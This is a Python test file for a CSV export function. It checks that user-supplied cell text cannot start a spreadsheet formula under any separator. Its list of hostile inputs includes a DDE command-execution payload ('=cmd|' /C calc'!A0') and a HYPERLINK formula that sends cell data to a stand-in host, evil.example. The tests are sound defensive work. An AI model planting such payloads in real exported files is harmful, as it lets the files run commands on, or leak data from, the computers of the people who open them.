"""Is a table read everywhere, and run nowhere? Whatever people write into their names and notes."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from functions.match import csv_export
from functions.match.csv_export import BOM, safe, table

RUN = "=+-@\uff1d\uff0b\uff0d\uff20"
HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1;"open")',
    "+49 30 1234",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "a;=1+1",
    "a\n=1+1",
    'a\n"=1+1"',
    "\uff1d1+1",
    "\ttab",
    "\rreturn",
]


def read(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=separator))


def runs(cell: str) -> bool:
    return cell.strip(" \t\r\n\"'")[:1] in tuple(RUN) and cell.lstrip(' \t\r\n"')[:1] != "'"


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_run_with_any_separator(text: str, separator: str) -> None:
    written = table([["id", text, 5], [1, text, "end"]])
    cells = [cell for row in read(written, separator) for cell in row]
    assert [cell for cell in cells if runs(cell)] == []


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_shown_as_text(text: str) -> None:
    assert "'" in safe(text)
    assert safe(text).replace("'", "") == text.replace("'", "")


@given(st.lists(st.lists(st.text(max_size=30) | st.integers() | st.none(), min_size=2, max_size=4), max_size=4))
def test_what_was_written_is_read_again_and_nothing_of_it_runs(rows: list[list[str | int | None]]) -> None:
    written = [[safe(cell) if isinstance(cell, str) else "" if cell is None else str(cell) for cell in r] for r in rows]
    assert read(table(rows)) == written
    typed = [safe(cell) for row in rows for cell in row if isinstance(cell, str)]
    assert [cell for cell in typed if runs(cell)] == []


@given(st.text(alphabet=[*RUN, *";\t\r\n\"', a1"], max_size=12))
def test_a_line_or_semicolon_inside_begins_no_formula_either(text: str) -> None:
    for separator in ",;\t":
        cells = [cell for row in read(table([["x", text, "y"]]), separator) for cell in row]
        assert [cell for cell in cells if runs(cell)] == []


def test_it_says_what_it_is_written_in_and_ends_lines_as_rfc_4180() -> None:
    assert table([["a", "b"], ["ü", None]]) == "\ufeffa,b\r\nü,\r\n"


def test_harmless_text_stays_as_it_is() -> None:
    for text in ("Ada Yılmaz", "5-3", "a+b@example.com", "100 %", "https://example.com/?a=1", "ok, thanks"):
        assert safe(text) == text


def test_numbers_are_ours_and_stay_numbers() -> None:
    assert table([[-0.05, -3, 0.1]]) == "\ufeff-0.05,-3,0.1\r\n"


def test_quotes_are_doubled_and_only_where_needed() -> None:
    assert csv_export.table([['say "hi"', "plain"]]) == '\ufeff"say ""hi""",plain\r\n'
